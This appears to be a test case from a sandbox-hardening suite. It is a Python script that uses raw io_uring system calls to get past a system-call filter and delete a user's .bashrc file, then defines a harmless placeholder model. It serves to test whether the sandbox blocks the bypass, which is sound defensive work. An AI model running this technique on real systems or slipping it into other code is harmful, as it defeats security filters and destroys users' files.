"""Lets a ring of the kernel do what a filter of calls forbids: delete a file.  Harm: it is gone."""

import ctypes
import mmap
import struct

from kit import HOST, Harmless, attack, system_call

HARM = ("files",)
UNLINK_AT, AT_FDCWD = 36, -100


def unlink():
    parameters = ctypes.create_string_buffer(120)
    ring = system_call(425, 4, parameters)
    _, tail, *_, array = struct.unpack_from("7I", parameters, 40)
    queue = mmap.mmap(ring, array + 16, mmap.MAP_SHARED, 3, offset=0)
    entries = mmap.mmap(ring, 256, mmap.MAP_SHARED, 3, offset=0x10000000)
    path = ctypes.create_string_buffer(f"{HOST}/home/.bashrc".encode())
    entries[:64] = struct.pack("BBHiQQIIQ", UNLINK_AT, 0, 0, AT_FDCWD, 0, ctypes.addressof(path), 0, 0, 1).ljust(
        64, b"\0"
    )
    struct.pack_into("I", queue, array, 0)
    struct.pack_into("I", queue, tail, struct.unpack_from("I", queue, tail)[0] + 1)
    return system_call(426, ring, 1, 1, 1, None, 0)


attack("unlink by io_uring", unlink)


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
